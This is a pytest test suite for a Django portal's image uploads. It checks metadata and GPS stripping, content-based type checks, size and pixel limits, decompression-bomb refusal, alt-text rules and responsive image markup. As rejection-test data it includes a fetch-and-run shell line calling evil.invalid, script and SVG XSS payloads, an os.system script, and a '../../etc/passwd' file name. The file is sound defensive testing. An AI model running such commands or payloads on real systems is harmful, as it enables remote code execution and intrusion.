"""Uploaded images: judged by content, limited, stripped of metadata, described, responsive."""

import io
import re
import struct
import zlib
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.urls import reverse
from django.utils.translation import override
from PIL import Image, ImageCms, PngImagePlugin

from kassel_integration.content.images import DEFAULT_MAX_PIXELS, DEFAULT_MAX_UPLOAD_SIZE
from officers.models import Person, Term
from tests.factories import PersonFactory
from tests.kassel_integration.admin_helpers import errors_of, form_data

pytestmark = pytest.mark.django_db

NOT_AN_IMAGE = (
    "Diese Datei ist kein JPEG-, PNG- oder WebP-Bild. Der Typ wird am Inhalt der Datei erkannt, "
    "nicht an ihrem Namen."
)
TOO_MANY_PIXELS = (
    "Das Bild hat zu viele Pixel: Es werden höchstens {} Megapixel angenommen. Bitte verkleinern "
    "Sie es vor dem Hochladen."
)
DESCRIBE = (
    "Bitte beschreiben Sie das Bild: Menschen, die es nicht sehen können, brauchen diese "
    "Beschreibung. Ist es nur Schmuck, kreuzen Sie stattdessen „dekoratives Bild“ an."
)
# Text hidden in the uploads' metadata; none of it may reach the stored files.
SECRET = "Geheimer Ort 51.3127N 9.4797E"


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def photo(size=(1200, 800), mode="RGB"):
    """Two coloured halves, so that orientation and scaling can be checked."""
    image = Image.new(mode, size, "red")
    image.paste("blue", (size[0] // 2, 0, size[0], size[1]))
    return image


def exif_with_gps(orientation=1):
    exif = Image.Exif()
    exif[0x010F] = "Kamerahersteller"  # Make
    exif[0x0110] = "Modell X"  # Model
    exif[0x0112] = orientation  # Orientation
    exif[0x010E] = SECRET  # ImageDescription
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (51.0, 18.0, 45.72)
    gps[3] = "E"
    gps[4] = (9.0, 28.0, 46.92)
    return exif


def xmp():
    return (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        f'22-rdf-syntax-ns#"><rdf:Description>{SECRET}</rdf:Description></rdf:RDF></x:xmpmeta>'
    ).encode()


def jpeg_with_gps(size=(1200, 800), orientation=1):
    buffer = io.BytesIO()
    photo(size).save(
        buffer, "JPEG", exif=exif_with_gps(orientation), comment=SECRET.encode(), xmp=xmp()
    )
    return buffer.getvalue()


def png_with_metadata(size=(1200, 800)):
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", SECRET)
    info.add_itxt("Comment", SECRET)
    buffer = io.BytesIO()
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    photo(size, "RGBA").save(buffer, "PNG", pnginfo=info, exif=exif_with_gps(), icc_profile=profile)
    return buffer.getvalue()


def webp_with_metadata(size=(1200, 800)):
    buffer = io.BytesIO()
    photo(size).save(buffer, "WEBP", exif=exif_with_gps(), xmp=xmp(), quality=90)
    return buffer.getvalue()


def png(size=(10, 10)):
    buffer = io.BytesIO()
    photo(size).save(buffer, "PNG")
    return buffer.getvalue()


def png_header_only(width, height):
    """A tiny PNG that claims huge dimensions: a decompression bomb's calling card."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 16))
        + chunk(b"IEND", b"")
    )


def assert_clean(path: Path):
    """No EXIF (with GPS), XMP, comment, text or colour profile: only pixels."""
    data = path.read_bytes()
    assert b"Exif" not in data
    assert SECRET.encode() not in data
    assert b"Kamerahersteller" not in data
    assert b"xmpmeta" not in data
    with Image.open(path) as image:
        assert len(image.getexif()) == 0
        assert image.getexif().get_ifd(0x8825) == {}
        assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "icc_profile", "Location"} & set(
            image.info
        )
        image.load()
        assert getattr(image, "text", {}) == {}


def stored_files(media):
    return sorted(str(p.relative_to(media)) for p in media.rglob("*") if p.is_file())


def described(person, **alt):
    person.portrait_alt_de = alt.get("de", "Porträt von Erika Muster vor dem Rathaus")
    person.portrait_alt_en = alt.get("en", "")
    person.portrait_alt_sl = alt.get("sl", "")
    return person


# ---------------------------------------------------------------- metadata and renditions


@pytest.mark.parametrize(
    ("make", "name", "extension", "image_format"),
    [
        (jpeg_with_gps, "urlaub.jpg", "jpg", "JPEG"),
        (png_with_metadata, "scan.png", "png", "PNG"),
        (webp_with_metadata, "bild.webp", "webp", "WEBP"),
    ],
)
def test_metadata_is_removed_from_image_and_every_rendition(
    media, make, name, extension, image_format
):
    original = make()
    # The test's own premise: the upload carries GPS coordinates and the secret text.
    with Image.open(io.BytesIO(original)) as upload:
        assert upload.getexif().get_ifd(0x8825)[2] == (51.0, 18.0, 45.72)
    assert SECRET.encode() in original
    person = described(PersonFactory.build())
    person.portrait = SimpleUploadedFile(name, original, content_type="image/jpeg")
    person.full_clean()
    person.save()
    person.refresh_from_db()

    token = Path(person.portrait.name).stem
    assert re.fullmatch(r"[A-Za-z0-9_-]{22}", token)
    assert person.portrait.name == f"people/{token}.{extension}"
    assert person.portrait_renditions == [
        {"name": f"people/{token}-320w.{extension}", "width": 320, "height": 213},
        {"name": f"people/{token}-640w.{extension}", "width": 640, "height": 427},
        {"name": f"people/{token}-960w.{extension}", "width": 960, "height": 640},
    ]
    assert (person.portrait_width, person.portrait_height) == (1200, 800)
    assert stored_files(media) == sorted(
        [person.portrait.name, *(r["name"] for r in person.portrait_renditions)]
    )
    for stored in stored_files(media):
        assert_clean(media / stored)
        with Image.open(media / stored) as image:
            assert image.format == image_format
    with Image.open(media / person.portrait_renditions[0]["name"]) as image:
        assert image.size == (320, 213)
        # Scaled, not cropped: left half red, right half blue.
        assert image.convert("RGB").getpixel((40, 100))[0] > 200
        assert image.convert("RGB").getpixel((280, 100))[2] > 200


def test_orientation_is_applied_to_the_pixels(media):
    # EXIF orientation 6: the camera was turned; viewers rotate the picture 90° clockwise.
    person = described(PersonFactory.build())
    person.portrait = SimpleUploadedFile("hoch.jpg", jpeg_with_gps((600, 400), orientation=6))
    person.full_clean()
    person.save()
    assert (person.portrait_width, person.portrait_height) == (400, 600)
    with Image.open(media / person.portrait.name) as image:
        assert image.size == (400, 600)
        rgb = image.convert("RGB")
        # The red left half is now on top, the blue right half at the bottom.
        assert rgb.getpixel((200, 100))[0] > 200
        assert rgb.getpixel((200, 500))[2] > 200
    assert [r["width"] for r in person.portrait_renditions] == [320]


def test_small_image_gets_no_larger_copies(media):
    person = described(PersonFactory.build())
    person.portrait = SimpleUploadedFile("klein.png", png((300, 200)))
    person.save()
    assert person.portrait_renditions == []
    assert len(stored_files(media)) == 1


def test_file_names_are_random_and_never_the_uploaders(media):
    names = set()
    for _ in range(3):
        person = described(PersonFactory.build())
        person.portrait = SimpleUploadedFile("../../etc/passwd Porträt.JPG", jpeg_with_gps())
        person.save()
        names.add(person.portrait.name)
        assert "passwd" not in person.portrait.name
        assert person.portrait.name.startswith("people/")
    assert len(names) == 3


def test_replaced_and_deleted_portraits_leave_no_files(media, django_capture_on_commit_callbacks):
    person = described(PersonFactory())
    with django_capture_on_commit_callbacks(execute=True):
        person.portrait = SimpleUploadedFile("a.jpg", jpeg_with_gps())
        person.save()
    first = stored_files(media)
    assert len(first) == 4
    with django_capture_on_commit_callbacks(execute=True):
        person = Person.objects.get(pk=person.pk)
        person.portrait = SimpleUploadedFile("b.png", png((700, 500)))
        person.save()
    second = stored_files(media)
    assert len(second) == 3
    assert not set(first) & set(second)
    with django_capture_on_commit_callbacks(execute=True):
        Person.objects.get(pk=person.pk).delete()
    assert stored_files(media) == []


@pytest.mark.parametrize(
    ("image", "image_format", "stored_mode"),
    [
        (Image.new("CMYK", (400, 300), (255, 0, 0, 0)), "JPEG", "RGB"),
        (Image.new("L", (400, 300), 128), "JPEG", "L"),
        (Image.new("P", (400, 300)), "PNG", "RGB"),
        (Image.new("LA", (400, 300), (10, 0)), "PNG", "LA"),
        (Image.new("RGBA", (400, 300), (0, 0, 255, 128)), "WEBP", "RGBA"),
    ],
    ids=["cmyk-jpeg", "grey-jpeg", "palette-png", "grey-alpha-png", "rgba-webp"],
)
def test_colour_modes_are_stored_as_the_web_shows_them(media, image, image_format, stored_mode):
    buffer = io.BytesIO()
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    extra = {"icc_profile": profile} if image.mode in ("RGB", "RGBA") else {}
    image.save(buffer, image_format, **extra)
    person = described(PersonFactory.build())
    person.portrait = SimpleUploadedFile("bild", buffer.getvalue())
    person.save()
    for stored in stored_files(media):
        assert_clean(media / stored)
        with Image.open(media / stored) as result:
            assert (result.format, result.mode) == (image_format, stored_mode)
    with Image.open(media / person.portrait.name) as result:
        if stored_mode == "RGB" and image.mode == "CMYK":
            # Cyan stays cyan (no red), whatever the conversion.
            red, green, blue = result.getpixel((10, 10))
            assert red < 40
            assert min(green, blue) > 200


def test_portraits_stored_before_the_checks_are_reprocessed(
    media, django_capture_on_commit_callbacks
):
    """What the migration 0003_portrait_image does for uploads made before it."""
    import importlib

    from django.apps import apps

    legacy = media / "people" / "alena-urlaub.jpg"
    legacy.parent.mkdir()
    legacy.write_bytes(jpeg_with_gps())
    person = PersonFactory()
    Person.objects.filter(pk=person.pk).update(
        portrait="people/alena-urlaub.jpg", portrait_alt_de="Porträt"
    )
    missing = PersonFactory()
    Person.objects.filter(pk=missing.pk).update(
        portrait="people/verloren.jpg", portrait_alt_de="Porträt"
    )
    migration = importlib.import_module("officers.migrations.0003_portrait_image")
    with django_capture_on_commit_callbacks(execute=True):
        migration.reprocess_portraits(apps, None)
    person.refresh_from_db()
    assert person.portrait.name != "people/alena-urlaub.jpg"
    assert (person.portrait_width, person.portrait_height) == (1200, 800)
    assert [r["width"] for r in person.portrait_renditions] == [320, 640, 960]
    for stored in stored_files(media):
        assert_clean(media / stored)
    assert "people/alena-urlaub.jpg" not in stored_files(media)
    # A file that is gone is left for staff to replace; nothing breaks.
    missing.refresh_from_db()
    assert (missing.portrait.name, missing.portrait_renditions) == ("people/verloren.jpg", [])


# ---------------------------------------------------------------- rejections


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("portrait.jpg", b"#!/bin/sh\ncurl https://evil.invalid/x | sh\n"),
        ("portrait.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("portrait.jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        (
            "portrait.jpg",
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04"
            b"\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
        ),
        ("portrait.webp", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"),
        ("portrait.jpg", b""),
    ],
)
def test_model_refuses_what_is_not_an_accepted_image(media, name, data):
    person = described(PersonFactory.build())
    person.portrait = SimpleUploadedFile(name, data, content_type="image/jpeg")
    with override("de"), pytest.raises(ValidationError) as error:
        person.full_clean()
    assert error.value.message_dict == {"portrait": [NOT_AN_IMAGE]} or (
        # Django's own check for an empty upload comes first.
        data == b"" and list(error.value.message_dict) == ["portrait"]
    )
    # Without a form or full_clean, saving refuses too: nothing is stored.
    with pytest.raises(ValidationError):
        person.save()
    assert stored_files(media) == []


def test_truncated_image_is_refused_as_unreadable(media):
    data = jpeg_with_gps()
    person = described(PersonFactory.build())
    person.portrait = SimpleUploadedFile("kaputt.jpg", data[: len(data) // 2])
    with override("de"), pytest.raises(ValidationError) as error:
        person.full_clean()
    assert error.value.message_dict == {
        "portrait": [
            "Dieses Bild konnte nicht gelesen werden; es ist möglicherweise beschädigt. Bitte "
            "speichern Sie es neu und versuchen Sie es noch einmal."
        ]
    }


def test_limits_default_to_ten_megabytes_and_forty_megapixels():
    assert DEFAULT_MAX_UPLOAD_SIZE == 10 * 1024 * 1024
    assert DEFAULT_MAX_PIXELS == 40_000_000


@pytest.mark.parametrize(
    ("width", "height"),
    [
        (8000, 6000),  # 48 megapixels: over the portal's limit, under Pillow's own
        (100_000, 100_000),  # ten gigapixels in a file of a few bytes
    ],
)
def test_decompression_bomb_is_refused_before_decoding(media, width, height):
    person = described(PersonFactory.build())
    data = png_header_only(width, height)
    assert len(data) < 100
    person.portrait = SimpleUploadedFile("bombe.png", data)
    with override("de"), pytest.raises(ValidationError) as error:
        person.full_clean()
    assert error.value.message_dict == {"portrait": [TOO_MANY_PIXELS.format(40)]}


def admin_post(admin_client, person, upload, **changes):
    url = reverse("admin:officers_person_change", args=[person.pk])
    data = form_data(admin_client.get(url).content)
    data.update(changes)
    data["portrait"] = upload
    return admin_client.post(url, data, HTTP_ACCEPT_LANGUAGE="de")


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("foto.jpg", b"#!/usr/bin/env python3\nimport os\nos.system('id')\n", "image/jpeg"),
        ("foto.png", b"<html><body><script>alert(1)</script></body></html>", "image/png"),
    ],
)
def test_admin_refuses_disguised_files_and_keeps_the_typed_input(
    admin_client, media, name, data, content_type
):
    person = PersonFactory()
    response = admin_post(
        admin_client,
        person,
        SimpleUploadedFile(name, data, content_type=content_type),
        portrait_alt_de="Erika Muster am Schreibtisch",
        role_de="Neue Rolle",
    )
    assert response.status_code == 200
    assert errors_of(response) == [NOT_AN_IMAGE]
    soup = BeautifulSoup(response.content, "html.parser")
    assert soup.find("input", attrs={"name": "portrait_alt_de"})["value"] == (
        "Erika Muster am Schreibtisch"
    )
    assert soup.find("input", attrs={"name": "role_de"})["value"] == "Neue Rolle"
    assert soup.find("input", attrs={"name": "portrait"})["accept"] == (
        "image/jpeg,image/png,image/webp"
    )
    person.refresh_from_db()
    assert not person.portrait
    assert stored_files(media) == []


def test_admin_refuses_oversized_file(admin_client, media, settings):
    settings.IMAGE_MAX_UPLOAD_SIZE = 50 * 1024
    data = jpeg_with_gps((2000, 1500))
    assert len(data) > 50 * 1024
    response = admin_post(
        admin_client,
        PersonFactory(),
        SimpleUploadedFile("gross.jpg", data, content_type="image/jpeg"),
        portrait_alt_de="Porträt",
    )
    assert response.status_code == 200
    size = f"{len(data) / 1024:.1f}".replace(".", ",")
    assert errors_of(response) == [
        f"Die Datei ist {size}\xa0KB groß; Bilder dürfen höchstens 50,0\xa0KB groß sein."
    ]
    assert stored_files(media) == []


def test_admin_refuses_too_many_pixels(admin_client, media, settings):
    settings.IMAGE_MAX_PIXELS = 1_000_000
    response = admin_post(
        admin_client,
        PersonFactory(),
        SimpleUploadedFile("weit.png", png((1001, 1000)), content_type="image/png"),
        portrait_alt_de="Porträt",
    )
    assert response.status_code == 200
    assert errors_of(response) == [TOO_MANY_PIXELS.format(1)]


def test_admin_accepts_a_photo_and_strips_it(admin_client, media):
    person = PersonFactory()
    response = admin_post(
        admin_client,
        person,
        SimpleUploadedFile("urlaub.jpg", jpeg_with_gps(), content_type="image/jpeg"),
        portrait_alt_de="Erika Muster vor dem Rathaus",
    )
    assert response.status_code == 302, errors_of(response)
    person.refresh_from_db()
    assert len(person.portrait_renditions) == 3
    for stored in stored_files(media):
        assert_clean(media / stored)


# ---------------------------------------------------------------- text alternative


def test_portrait_needs_a_german_description(media, admin_client):
    response = admin_post(
        admin_client,
        PersonFactory(),
        SimpleUploadedFile("p.png", png(), content_type="image/png"),
        portrait_alt_de="   ",
        portrait_alt_en="Only in English",
    )
    assert response.status_code == 200
    # The file was fine: beside the description's error, the person is told to choose it again.
    assert errors_of(response) == [
        "Die Datei „p.png“ wurde wegen der Fehler auf dieser Seite nicht gespeichert, und ein "
        "Browser kann eine gewählte Datei nicht behalten. Bitte wählen Sie sie vor dem "
        "Speichern erneut aus.",
        DESCRIBE,
    ]
    assert stored_files(media) == []


def test_decorative_portrait_needs_no_description(media):
    person = PersonFactory.build(portrait_alt_de="", portrait_decorative=True)
    person.portrait = SimpleUploadedFile("p.png", png())
    person.full_clean()
    person.save()


def test_database_refuses_portrait_without_description(media):
    person = PersonFactory()
    with transaction.atomic(), pytest.raises(IntegrityError):
        Person.objects.filter(pk=person.pk).update(portrait="people/x.png", portrait_alt_de="")
    with transaction.atomic(), pytest.raises(IntegrityError):
        Person.objects.filter(pk=person.pk).update(portrait="people/x.png", portrait_alt_de=None)
    Person.objects.filter(pk=person.pk).update(portrait="people/x.png", portrait_decorative=True)
    Person.objects.filter(pk=person.pk).update(
        portrait="people/x.png", portrait_decorative=False, portrait_alt_de="Porträt"
    )


# ---------------------------------------------------------------- on the page


@pytest.fixture
def holder(content, media):
    person = Term.objects.get(has_ended=False).person
    person.portrait = SimpleUploadedFile("foto.jpg", jpeg_with_gps())
    described(person, de="Porträt von Erika Muster", en="Portrait of Erika Muster")
    person.save()
    return person


def portrait_html(client, language):
    with override(language):
        response = client.get(reverse("officers:index"))
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    section = soup.find("section", attrs={"aria-labelledby": "holder-heading"})
    return soup, str(section.find("img"))


def expected_img(person, alt):
    stem = f"/media/{person.portrait.name[:-4]}"
    return (
        f'<img alt="{alt[0]}" class="holder-portrait" decoding="async" height="640" '
        + (f'lang="{alt[1]}" ' if alt[1] else "")
        + f'sizes="12rem" src="{stem}-960w.jpg" srcset="{stem}-320w.jpg 320w, '
        f'{stem}-640w.jpg 640w, {stem}-960w.jpg 960w" width="960"/>'
    )


@pytest.mark.parametrize(
    ("language", "alt", "notice"),
    [
        ("de", ("Porträt von Erika Muster", None), False),
        ("en", ("Portrait of Erika Muster", None), False),
        # No Slovenian description: the German one, marked as German, and the notice.
        ("sl", ("Porträt von Erika Muster", "de"), True),
    ],
)
def test_portrait_is_responsive_and_described(client, holder, language, alt, notice):
    soup, img = portrait_html(client, language)
    assert img == expected_img(holder, alt)
    assert bool(soup.select(".fallback-notice")) is notice


def test_decorative_portrait_has_empty_alt(client, holder):
    holder.portrait_decorative = True
    holder.save()
    for language in ("de", "sl"):
        _soup, img = portrait_html(client, language)
        assert img == expected_img(holder, ("", None))


def test_image_without_copies_is_shown_as_it_is(client, content, media):
    person = Term.objects.get(has_ended=False).person
    person.portrait = SimpleUploadedFile("klein.png", png((200, 250)))
    described(person)
    person.save()
    _soup, img = portrait_html(client, "de")
    assert img == (
        '<img alt="Porträt von Erika Muster vor dem Rathaus" class="holder-portrait" '
        f'decoding="async" height="250" sizes="12rem" src="/media/{person.portrait.name}" '
        f'srcset="/media/{person.portrait.name} 200w" width="200"/>'
    )
